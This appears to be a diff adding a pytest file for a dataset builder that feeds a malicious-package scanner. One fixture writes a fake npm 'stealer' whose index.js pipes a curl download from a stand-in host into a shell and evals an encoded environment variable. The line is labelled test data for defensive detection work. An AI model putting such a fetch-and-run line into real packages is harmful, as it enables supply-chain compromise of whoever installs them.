@@ -0,0 +1,49 @@
+#!/usr/bin/env python3
+"""
+Dataset builder: corpus packages -> resumable .npy shards
+"""
+
+import sys
+import json
+import tarfile
+from pathlib import Path
+
+import numpy as np
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT))
+
+import scanner_predictor
+from dataset_builder import build_dataset, load_dataset, DATASET_COLUMNS
+
+
+def _npm_package(d: Path, name: str, code: str):
+    d.mkdir(parents=True)
+    (d / "package.json").write_text(json.dumps({"name": name, "version": "1.2.3"}))
+    (d / "index.js").write_text(code)
+
+
+def test_build_resume_and_load(tmp_path, monkeypatch):
+    monkeypatch.setattr(scanner_predictor, "FEATURE_CACHE_DIR", tmp_path / "features")
+    mal, ben = tmp_path / "mal", tmp_path / "ben"
+    _npm_package(mal / "stealer", "stealer", "require('child_process').exec('curl http://x.tk | sh'); eval(atob(process.env.T))")
+    _npm_package(tmp_path / "src" / "lodashy", "lodashy", "module.exports = function add(a, b) { return a + b }")
+    ben.mkdir()
+    # npm tarball layout: everything under package/
+    with tarfile.open(ben / "lodashy-1.2.3.tgz", "w:gz") as tar:
+        tar.add(tmp_path / "src" / "lodashy", arcname="package")
+    (ben / "broken.tgz").write_bytes(b"not a tarball")
+
+    out = tmp_path / "dataset"
+    stats = build_dataset([(mal, 1), (ben, 0)], out, shard_size=2, workers=1)
+    assert stats == {"scanned": 2, "failed": 1, "shards": 2}
+
+    # Everything is recorded, failures included: a re-run scans nothing
+    assert build_dataset([(mal, 1), (ben, 0)], out, workers=1)["scanned"] == 0
+
+    X, y, columns = load_dataset(out)
+    assert columns == DATASET_COLUMNS and X.shape == (2, len(DATASET_COLUMNS))
+    assert sorted(y.tolist()) == [0, 1]
+    X, _, columns = load_dataset(out, ["eval_calls", "eco_is_npm"])
+    np.testing.assert_array_equal(X[:, 1], [1, 1])
+    assert X[y == 1, 0] > 0